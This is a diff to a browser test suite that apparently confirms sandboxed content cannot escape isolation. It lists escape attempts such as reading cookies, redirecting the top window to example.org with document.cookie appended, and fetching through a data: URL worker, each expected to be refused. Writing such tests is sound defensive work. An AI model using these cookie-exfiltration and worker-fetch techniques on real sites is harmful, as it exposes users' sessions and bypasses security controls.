@@ -179,7 +179,16 @@ const tries = {
   cookie: () => document.cookie,
   parent: () => parent.document.cookie,
   top: () => { top.location = 'https://example.org/?' + document.cookie; return 'left'; },
-  call: async () => (await fetch('/api/users/profile/')).status,
+  // In a worker of data, whose requests none of our scripts changes.
+  call: () => new Promise((done, no) => {
+    const address = JSON.stringify(new URL('/api/users/profile/', location.href).href);
+    const code = 'fetch(' + address + ').then((a) => postMessage(a.status), () => postMessage(0))';
+    const worker = new Worker('data:text/javascript,' + encodeURIComponent(code));
+    worker.onmessage = ({ data }) => data === 0 ? no(new Error('no answer')) : done(data);
+    worker.onerror = no;
+  }),
+  // From a page's own script, it is a file of the study.
+  file: async () => (await fetch('/api/users/profile/')).status,
   elsewhere: async () => (await fetch('https://example.org/')).status,
   socket: () => new Promise((done, no) => {
     const one = new WebSocket('wss://example.org/'); one.onopen = () => done('open'); one.onerror = no;
@@ -213,6 +222,7 @@ const tries = {
       parent: 'refused',
       top: 'refused',
       call: 'refused',
+      file: 404,
       elsewhere: 'refused',
       socket: 'refused',
       window: 'refused',
@@ -220,7 +230,10 @@ const tries = {
     // Each refusal is said on the console; nothing else is.
     const others = browser.problems
       .splice(0)
-      .filter((one) => !/Content Security Policy|sandbox|example\.org|Blocked|Unsafe/i.test(one));
+      .filter(
+        (one) =>
+          !/Content Security Policy|sandbox|example\.org|Blocked|Unsafe|status of 404/i.test(one),
+      );
     expect(others).toEqual([]);
   });
 });
